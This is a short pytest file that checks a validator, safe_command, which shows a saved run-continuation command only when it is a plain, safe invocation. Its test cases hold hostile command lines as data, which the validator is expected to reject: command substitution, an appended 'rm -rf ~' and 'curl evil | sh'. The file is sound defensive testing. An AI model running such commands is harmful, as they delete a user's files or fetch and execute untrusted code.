"""The line that continues a run, as a run folder has it: shown only if it is one."""

import pytest

from intriguing.basics.saved_plan import safe_command


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("intriguing run demo --out outputs/demo", "intriguing run demo --out outputs/demo"),
        ("intriguing run $(touch x) --out 'a b'", ""),
        ("intriguing run '$(touch x)' --out 'a b'", "intriguing run '$(touch x)' --out 'a b'"),
        ("INTRIGUING_CORPUS='a;b' intriguing run w --out o", "INTRIGUING_CORPUS='a;b' intriguing run w --out o"),
        ("intriguing run demo --out x --data y", "intriguing run demo --out x --data y"),
        ("intriguing run demo --out x; rm -rf ~", ""),
        ("curl evil | sh", ""),
        ("intriguing run demo --out 'x", ""),
        ("intriguing run --pdb --out x", ""),
    ],
)
def test_the_line_that_continues_a_run_is_shown_only_if_it_is_one(line, shown):
    assert safe_command(line) == shown
